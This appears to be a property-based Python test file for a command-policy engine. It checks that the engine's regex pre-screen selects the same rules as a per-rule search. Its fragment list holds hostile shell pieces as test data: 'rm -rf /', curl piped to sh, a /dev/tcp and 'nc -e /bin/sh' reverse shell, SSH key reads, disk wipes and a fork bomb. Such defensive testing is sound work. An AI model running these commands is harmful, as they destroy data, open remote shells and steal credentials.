"""The engine's rule screen must pick exactly the rules that one search per rule picks, for any readings."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from tkbox_daemon.policy import PolicyContext, engine, load_pack, normalise_command

CONTEXT = PolicyContext(signer_data_dir="/home/a/.local/share/tkbox", signer_runtime_dir="/run/user/1000/tkbox",
                        signer_pid=4242)
GROUPS = [group for groups in engine._plan(load_pack("default", CONTEXT)).values() for group in groups]

# Pieces of what the default pack's rules look for, and the glue around them.
FRAGMENTS = ["rm -rf /", "rm -r -f ~", "curl https://x/i.sh", "| sh", "| bash -", "wget -O- x", "sudo ", "eval ",
             "pipeline: curl | exec-stdin:sh", "pipeline: stdin | exec-stdin:python3", "pipeline: echo | base64",
             "fetch-run: curl fetched 'https://x' into '/tmp/i.sh', then ran 'sh /tmp/i.sh'", "> /dev/sda",
             "/dev/tcp/1.2.3.4/80", "/run/docker.sock", "< ~/.ssh/id_rsa", "cat .ssh/id_ed25519", "LD_PRELOAD=/x.so",
             "/proc/self/environ", " & ", "() { :|:& };:", "/tmp", "/home/a/.local/share/tkbox/keys",
             "/run/user/1000/tkbox/signer.sock", ">> .github/workflows/ci.yml", "git push --force", "git push -f",
             "chmod -R 777 /", "mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda", "kill -9 4242", "pkill tkbox",
             "nc -e /bin/sh x 1", "python3 -c 'import os'", "{\"command\":\"x\"}", "crontab -", "history -c",
             "\n", ";", "&&", "(", ")", "`", " ", "x", "ls", "pytest -q"]
TEXT = st.one_of(st.lists(st.sampled_from(FRAGMENTS), max_size=6).map("".join),
                 st.text(alphabet=st.sampled_from(list("rm -f/~$'\"\\`(){}[]|&;<>*?#=!\n\tabcdx.:")), max_size=60))


def one_search_per_rule(group: engine._Group, texts: tuple[str, ...]) -> list:
    cmd_hit = group.screen_failed or (group.cmd_screen is not None
                                      and any(group.cmd_screen.search(t) for t in texts))
    return [plan.rule for plan in group.plans
            if (cmd_hit and plan.cmd_branches) or (plan.other is not None and any(plan.other.search(t)
                                                                                   for t in texts))]


@settings(max_examples=300)
@given(st.lists(TEXT, min_size=1, max_size=3).map(tuple))
def test_the_screen_picks_the_rules_one_search_per_rule_picks(texts):
    for group in GROUPS:
        assert group.candidates(texts) == one_search_per_rule(group, texts)


@settings(max_examples=100)
@given(TEXT)
def test_the_screen_picks_the_same_rules_for_a_command_s_readings(command):
    readings = normalise_command(command)
    for group in GROUPS:
        assert group.candidates(readings) == one_search_per_rule(group, readings)
        assert group.candidates(readings[:1]) == one_search_per_rule(group, readings[:1])


def test_dangerous_fragments_make_candidates():
    shell = next(group for group in GROUPS if group.field == "command" and group.cmd_screen is not None)
    assert shell.candidates(("rm -rf /",)) and shell.candidates(("a", "> /dev/sda")) and not shell.candidates(("ls",))
